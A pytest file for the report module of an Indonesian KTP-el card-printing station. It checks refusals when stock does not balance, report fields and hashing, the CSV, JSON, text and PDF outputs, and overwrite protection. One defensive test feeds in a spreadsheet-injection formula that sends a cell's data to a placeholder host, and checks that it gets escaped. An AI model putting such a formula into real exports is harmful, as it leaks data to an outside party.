"""The report to the centre: refused while cards wait for tags or the books do not balance; exact fields, a
report_id that is the hash of the rest and stays the same while nothing changed; its five files (the text page with its PDF twin)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from pypdf import PdfReader

from console import books, jobs, printer_record, reports
from console.canonical import canonical_json, sha256_hex
from console.errors import RefusedError, UsageError
from console.i18n import current_language, set_language
from tests.station import emulated_printer, make_engine
from tests.test_report_kit import (
    ALLOCATION,
    STATION_ID,
    indonesian,  # noqa: F401  (autouse: the messages in Bahasa Indonesia)
    print_cards,
    station,
    tag,
    write_config,
)

REPORT_FIELDS = {"format", "station_id", "allocation", "counts", "good", "bad", "spoiled_no_nik", "generated_at",
                 "audit_head", "report_id"}  # fmt: skip


@pytest.fixture
async def printed(tmp_path, database):
    station = await print_cards(tmp_path, residents=5, blanks=12, database=database)
    try:
        yield station
    finally:
        await station.store.close()


async def test_refused_while_cards_wait_for_their_tag_naming_them(printed):
    store, niks = printed.store, printed.niks
    await tag(store, niks[:3], {})
    with pytest.raises(RefusedError) as refused:
        await reports.make_report(store, ALLOCATION, STATION_ID, "test")
    message = str(refused.value)
    assert f"{niks[3]} kartu #4" in message and f"{niks[4]} kartu #5" in message and niks[0] not in message
    assert await store.scalar("SELECT count(*) FROM reports") == 0


async def test_refused_when_the_books_do_not_balance_saying_the_difference(printed):
    store, niks = printed.store, printed.niks
    await tag(store, niks, {})
    async with store.transaction("test") as tx:  # a blank gone from the books without a record
        await tx.execute("UPDATE station_stock SET in_stock = in_stock - 1")
    with pytest.raises(RefusedError) as refused:
        await reports.make_report(store, ALLOCATION, STATION_ID, "test")
    assert "selisih +1" in str(refused.value) and "diterima 12" in str(refused.value)


async def test_unknown_allocation_is_a_usage_error(printed):
    with pytest.raises(UsageError):
        await reports.make_report(printed.store, "NO-SUCH", STATION_ID, "test")


async def test_fields_counts_and_report_id(printed):
    store, niks = printed.store, printed.niks
    await tag(store, niks[:3], {niks[3]: "gagal_cetak", niks[4]: "lainnya"})
    report = await reports.make_report(store, ALLOCATION, STATION_ID, "test")
    body = report.body
    ledger_only = {"regency_id", "regency_stock", "by_station"} if store.dialect == "postgresql" else set()
    assert set(body) == REPORT_FIELDS | ledger_only and report.new
    assert body["format"] == "ktpel-station/report/1" and body["station_id"] == STATION_ID
    assert body["allocation"] == {"id": ALLOCATION, "received": 12, "period": "2026-11"}
    assert body["counts"] == {"good": 3, "bad": 2, "spoiled_no_nik": 0, "in_stock": 7}
    assert sum(body["counts"].values()) == body["allocation"]["received"]
    assert [c["nik"] for c in body["good"]] == niks[:3]
    assert set(body["good"][0]) == {"nik", "card_counter", "printer_serial", "printed_at"}
    serial = await printer_record.booked_serial(store)
    assert serial and {card["printer_serial"] for card in body["good"] + body["bad"]} == {serial}
    assert body["bad"][1] | {"printed_at": None} == {
        "nik": niks[4],
        "card_counter": 5,
        "printer_serial": serial,
        "printed_at": None,
        "reason": "lainnya",
        "note": "tergores",
    }
    assert body["report_id"] == sha256_hex({k: v for k, v in body.items() if k != "report_id"})
    stored = await store.fetchone("SELECT * FROM reports")
    assert stored["body"] == canonical_json(body) and stored["generated_at"] == body["generated_at"]
    [made] = await store.fetchall("SELECT seq, subject, data FROM audit WHERE action = 'report.made'")
    assert made["subject"] == ALLOCATION and json.loads(made["data"])["report"] == body["report_id"]
    before = await store.scalar("SELECT hash FROM audit WHERE seq = ?", (made["seq"] - 1,))
    assert body["audit_head"] == before  # the real head when the report was made: the centre keeps it


async def test_same_report_while_nothing_changed_new_one_after_a_change(tmp_path):
    station = await print_cards(tmp_path, residents=3, blanks=10, printing=2)
    store, niks = station.store, station.niks
    try:
        await tag(store, niks[:1], {niks[1]: "salah_data"})
        first = await reports.make_report(store, ALLOCATION, STATION_ID, "test")
        again = await reports.make_report(store, ALLOCATION, STATION_ID, "test")
        assert (again.report_id, again.body, again.new) == (first.report_id, first.body, False)
        assert await store.scalar("SELECT count(*) FROM reports") == 1
        with pytest.raises(RefusedError):  # a reported card's tag is no longer corrected
            await jobs.tag(store, niks[1], True, "test")
        await print_more(tmp_path, store, niks[2])
        await tag(store, [niks[2]], {})
        third = await reports.make_report(store, ALLOCATION, STATION_ID, "test")
        assert third.new and third.report_id != first.report_id and third.body["counts"]["good"] == 2
        assert await store.scalar("SELECT count(*) FROM reports") == 2
    finally:
        await store.close()


async def print_more(folder, store, nik):
    await jobs.enqueue(store, [nik], "test")
    async with emulated_printer(folder) as (emu, printer):
        engine = make_engine(store, printer)
        await engine.start()
        await engine.run()


def pdf_text(path):
    return "\n".join(page.extract_text(extraction_mode="layout") for page in PdfReader(path).pages)


async def test_the_four_files(printed, tmp_path):
    store, niks = printed.store, printed.niks
    await tag(store, niks[:3], {niks[3]: "gagal_cetak", niks[4]: "lainnya"})
    report = await reports.make_report(store, ALLOCATION, STATION_ID, "test")
    out = tmp_path / "out" / "laporan"
    files = reports.write_report_files(report.body, out, "Dukcapil Lombok Timur, loket cetak 1")
    names = sorted(p.name for p in out.iterdir())
    assert names == ["baik.csv", f"laporan-{ALLOCATION}.json", "laporan.pdf", "laporan.txt", "rusak.csv"]
    printed_twin = pdf_text(files.pdf)
    for line in files.text.read_text(encoding="utf-8").splitlines():
        assert line.strip() in printed_twin, line
    on_disk = json.loads(files.json.read_text(encoding="utf-8"))
    assert on_disk == report.body
    assert on_disk["report_id"] == sha256_hex({k: v for k, v in on_disk.items() if k != "report_id"})
    with open(files.good_csv, newline="", encoding="utf-8") as f:
        good = list(csv.DictReader(f))
    with open(files.bad_csv, newline="", encoding="utf-8") as f:
        bad = list(csv.DictReader(f))
    assert [row["nik"] for row in good] == niks[:3] and list(good[0]) == [
        "nik",
        "card_counter",
        "printer_serial",
        "printed_at",
    ]
    assert [(row["nik"], row["card_counter"], row["reason"], row["note"]) for row in bad] == [
        (niks[3], "4", "gagal_cetak", ""),
        (niks[4], "5", "lainnya", "tergores"),
    ]
    text = files.text.read_text(encoding="utf-8")
    lines = text.splitlines()
    assert len(lines) <= reports.PAGE_LINES and max(map(len, lines)) <= reports.PAGE_WIDTH
    assert "LAPORAN HASIL CETAK KTP-el" in text and report.report_id in text and ALLOCATION in text
    assert f"{niks[3]}  #4" in text and "gagal cetak" in text and "lainnya: tergores" in text
    assert "Petugas cetak," in text and text.count("NIP:") == 2
    counted = (
        ("Blangko diterima", 12),
        ("Cetak baik", 3),
        ("Cetak rusak (tidak baik)", 2),
        ("Sisa blangko di stok", 7),
    )
    for label, value in counted:
        [line] = [line for line in lines if line.strip().startswith(label)]
        assert line.split()[-1] == str(value)
    # written again: the same content, and no temporary file left behind
    reports.write_report_files(report.body, out, "Dukcapil Lombok Timur, loket cetak 1")
    assert len(list(out.iterdir())) == 5


def test_the_page_stays_one_page_with_many_bad_cards_and_speaks_english():
    bad = [{"nik": f"52030701019{i:05d}", "card_counter": i, "printed_at": "2026-11-28T09:00:00.000+08:00",
            "reason": "rusak_fisik", "note": None} for i in range(1, 200)]  # fmt: skip
    body = {
        "format": reports.REPORT_FORMAT,
        "station_id": STATION_ID,
        "allocation": {"id": "J", "received": 1000, "period": None},
        "counts": {"good": 700, "bad": 199, "spoiled_no_nik": 3, "in_stock": 98},
        "good": [],
        "bad": bad,
        "spoiled_no_nik": [{"card_counter": 900 + i, "reason": "taken_outside_station"} for i in range(3)],
        "generated_at": "2026-11-28T09:00:00.000+08:00",
    }
    body["report_id"] = reports.report_id_of(body)
    language = current_language()
    try:
        set_language("en")
        text = reports.render_text(body, "Loket 1")
    finally:
        set_language(language)
    lines = text.splitlines()
    assert len(lines) <= reports.PAGE_LINES
    assert "KTP-el PRINTING REPORT" in text and "physical damage" in text and "#900, #901, #902" in text
    shown = [line for line in lines if "physical damage" in line]
    assert f"and {199 - len(shown)} more" in text and "Print operator," in text
    twin = PdfReader(io.BytesIO(reports.render_pdf(text, "Loket 1 — Selong عبد", body["generated_at"])))
    assert len(twin.pages) == 1  # the printed twin is one page too
    assert "Loket 1 — Selong ???" in twin.pages[0].extract_text()  # a script the fonts cannot set: `?`, not refused


async def test_a_physical_count_difference_is_printed_on_the_signed_page_but_does_not_stop_the_report(
    printed, tmp_path
):
    store, niks = printed.store, printed.niks
    await tag(store, niks, {})
    in_stock = (await books.allocation_books(store, ALLOCATION)).in_stock
    assert await books.enter_count(store, ALLOCATION, in_stock - 1, "satu hilang", "kepala") == -1
    report = await reports.make_report(store, ALLOCATION, STATION_ID, "test")
    assert (report.stock_count.counted, report.stock_count.expected) == (in_stock - 1, in_stock)
    files = reports.write_report_files(report.body, tmp_path / "out", "Loket 1", report.stock_count)
    [line] = [line for line in files.text.read_text(encoding="utf-8").splitlines() if "Hitung fisik" in line]
    assert f"{in_stock - 1} blangko, buku {in_stock}, selisih -1" in line
    assert "count" not in json.dumps(report.body["counts"])  # the JSON of files.md is unchanged
    assert len(files.text.read_text(encoding="utf-8").splitlines()) <= reports.PAGE_LINES


async def test_a_note_that_a_spreadsheet_would_run_is_written_as_text(printed, tmp_path):
    """CSV injection: a cell beginning with = + - @ is prefixed with a quote in rusak.csv; the JSON keeps the note."""
    store, niks = printed.store, printed.niks
    notes = ['=HYPERLINK("http://contoh.invalid/?d="&A2,"klik")', "@SUM(1+1)", "+62 812", "-1+1"]
    await tag(store, niks[:1], {})
    for nik, note in zip(niks[1:5], notes):
        await jobs.tag(store, nik, False, "test", "lainnya", note)
    report = await reports.make_report(store, ALLOCATION, STATION_ID, "test")
    files = reports.write_report_files(report.body, tmp_path / "out", "Loket 1")
    with open(files.bad_csv, newline="", encoding="utf-8") as f:
        written = [row["note"] for row in csv.DictReader(f)]
    assert written == ["'" + note for note in notes]
    assert [card["note"] for card in report.body["bad"]] == notes
    with open(files.good_csv, newline="", encoding="utf-8") as f:
        [good] = list(csv.DictReader(f))
    assert good["nik"] == niks[0] and good["card_counter"] == "1"  # numbers and NIKs are never touched


def test_every_csv_writer_of_the_project_goes_through_the_one_rule():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    offenders = [
        str(path.relative_to(root))
        for folder in ("console", "screens", "drivers", "scripts")
        for path in (root / folder).rglob("*.py")
        if path.name != "csv_safe.py"
        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))
    ]
    assert offenders == []


async def test_another_reports_files_are_not_overwritten_without_force(tmp_path):
    printed = await print_cards(tmp_path, residents=5, blanks=12, printing=4)
    try:
        await _another_reports_files(tmp_path, printed.store, printed.niks)
    finally:
        await printed.store.close()


async def _another_reports_files(tmp_path, store, niks):
    config = write_config(tmp_path)
    out = tmp_path / "laporan"
    await tag(store, niks[:4], {})
    first = station(config, "report", ALLOCATION, "--out", str(out), "--json")
    assert first.returncode == 0, first.stderr
    before = {path.name: path.read_bytes() for path in out.iterdir()}
    assert station(config, "report", ALLOCATION, "--out", str(out)).returncode == 0  # the same report: rewritten
    await print_more(tmp_path, store, niks[4])
    await tag(store, [niks[4]], {})
    refused = station(config, "report", ALLOCATION, "--out", str(out))
    assert refused.returncode == 2 and "--force" in refused.stderr and "baik.csv" in refused.stderr
    assert {path.name: path.read_bytes() for path in out.iterdir()} == before
    forced = station(config, "report", ALLOCATION, "--out", str(out), "--force", "--json")
    assert forced.returncode == 0, forced.stderr
    second = json.loads(forced.stdout)
    assert second["report_id"] != json.loads(first.stdout)["report_id"]
    on_disk = json.loads((out / f"laporan-{ALLOCATION}.json").read_text(encoding="utf-8"))
    assert on_disk["report_id"] == second["report_id"]
    elsewhere = tmp_path / "sebelumnya"  # a report of another allocation's files is another report's too
    elsewhere.mkdir()
    (elsewhere / "baik.csv").write_text("nik\n")
    assert station(config, "report", ALLOCATION, "--out", str(elsewhere)).returncode == 2
